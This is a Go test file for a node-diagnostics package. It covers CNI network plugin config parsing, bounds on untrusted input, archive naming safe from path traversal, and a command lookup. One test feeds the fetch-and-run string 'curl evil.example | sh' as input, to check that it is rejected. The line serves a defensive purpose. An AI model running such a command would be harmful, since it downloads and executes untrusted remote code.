package nodereport_test

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/nodetriage/nodetriage/evidence/nodereport"
)

// The files that network plugins write are read as the runtime reads them, and what it cannot use is said.
func TestReadNetwork(t *testing.T) {
	for name, c := range map[string]struct {
		file string
		want nodereport.Network
		err  string
	}{
		"a list": {`{"cniVersion": "1.0.0", "name": "calico", "plugins": [{"type": "calico", "ipam": {"type": "calico-ipam"}}, {"type": "portmap"}, {"type": "portmap"}]}`,
			nodereport.Network{Name: "calico", Version: "1.0.0", Plugins: []nodereport.Plugin{{Type: "calico"}, {Type: "calico-ipam"}, {Type: "portmap"}}}, ""},
		"one plugin": {`{"cniVersion": "0.3.1", "name": "net", "type": "bridge", "bridge": "cbr0", "isGateway": true, "ipam": {"type": "host-local", "subnet": "10.244.1.0/24"}}`,
			nodereport.Network{Name: "net", Version: "0.3.1", Plugins: []nodereport.Plugin{{Type: "bridge"}, {Type: "host-local"}}, Ranges: []string{"10.244.1.0/24"}, Bridge: "cbr0"}, ""},
		"two families": {`{"name": "kindnet", "plugins": [{"type": "ptp", "ipam": {"type": "host-local", "ranges": [[{"subnet": "10.244.0.0/24"}], [{"subnet": "fd00:10:244::/64"}]]}}]}`,
			nodereport.Network{Name: "kindnet", Plugins: []nodereport.Plugin{{Type: "ptp"}, {Type: "host-local"}}, Ranges: []string{"10.244.0.0/24", "fd00:10:244::/64"}}, ""},
		"a delegate": {`{"name": "cbr0", "plugins": [{"type": "flannel", "delegate": {"type": "bridge"}}]}`,
			nodereport.Network{Name: "cbr0", Plugins: []nodereport.Plugin{{Type: "flannel"}, {Type: "bridge"}}}, ""},
		"a bridge of the default name": {`{"name": "b", "plugins": [{"type": "bridge", "isDefaultGateway": true}]}`,
			nodereport.Network{Name: "b", Plugins: []nodereport.Plugin{{Type: "bridge"}}, Bridge: "cni0"}, ""},
		"a bridge that is no gateway": {`{"name": "b", "plugins": [{"type": "bridge"}]}`,
			nodereport.Network{Name: "b", Plugins: []nodereport.Plugin{{Type: "bridge"}}}, ""},
		"empty":         {"", nodereport.Network{}, "the file is empty"},
		"half written":  {`{"name": "b", "plug`, nodereport.Network{}, "no JSON that can be used"},
		"no type":       {`{"name": "b"}`, nodereport.Network{Name: "b"}, "type is missing"},
		"an empty list": {`{"name": "b", "plugins": []}`, nodereport.Network{Name: "b"}, "its list of plugins is empty"},
	} {
		var got nodereport.Network
		err := nodereport.ReadNetwork([]byte(c.file), &got)
		if (err == nil) != (c.err == "") || err != nil && !strings.Contains(err.Error(), c.err) {
			t.Errorf("%s: %v, want %q", name, err, c.err)
		}
		if !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s: %+v, want %+v", name, got, c.want)
		}
	}
}

// A file of a stranger makes no report that is larger than it may be.
func TestReadNetworkIsBounded(t *testing.T) {
	var plugins []string
	for i := range 100 {
		plugins = append(plugins, fmt.Sprintf(`{"type": "p%d%s", "ipam": {"ranges": [[{"subnet": "10.%d.0.0/16"}, {"subnet": "10.%d.1.0/24"}]]}}`, i, strings.Repeat("x", 1000), i, i))
	}
	var got nodereport.Network
	if err := nodereport.ReadNetwork([]byte(`{"name": "`+strings.Repeat("n", 5000)+`", "plugins": [`+strings.Join(plugins, ",")+`]}`), &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Plugins) > 32 || len(got.Ranges) > 10 || len(got.Name) > 100 || len(got.Plugins[0].Type) > 100 {
		t.Errorf("%d plugins, %d ranges, a name of %d", len(got.Plugins), len(got.Ranges), len(got.Name))
	}
}

// Archives of two nodes never have one name, and none leaves its folder.
func TestSavedAs(t *testing.T) {
	at := time.Date(2026, 11, 27, 17, 30, 0, 0, time.UTC)
	if got := nodereport.SavedAs("worker-1", at); got != "saved-worker-1-20261127T173000Z.tar.gz" {
		t.Error(got)
	}
	names := map[string]string{}
	for _, node := range []string{"worker-1", "worker.1", "worker_1", "../worker/1", "worker/1", "", strings.Repeat("w", 61), strings.Repeat("w", 62)} {
		name := nodereport.SavedOf(node)
		if other, taken := names[name]; taken {
			t.Errorf("%q and %q have the name %s", node, other, name)
		}
		if strings.ContainsAny(name, "/.") || len(name) > 80 {
			t.Errorf("%q becomes %s", node, name)
		}
		names[name] = node
	}
}

// Whoever cannot look by an agent is told a command, of the probe and not of the report.
func TestHowToSee(t *testing.T) {
	if got := nodereport.HowToSee("clock"); got != "timedatectl" {
		t.Error(got)
	}
	if got := nodereport.HowToSee("curl evil.example | sh"); got != "" {
		t.Error(got)
	}
}

// Plugins rest on their own line where there is one.
func TestPluginsRef(t *testing.T) {
	for want, c := range map[string]nodereport.CNI{"a": {Ref: "a"}, "b": {Ref: "a", BinRef: "b"}} {
		if got := c.PluginsRef(); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
}
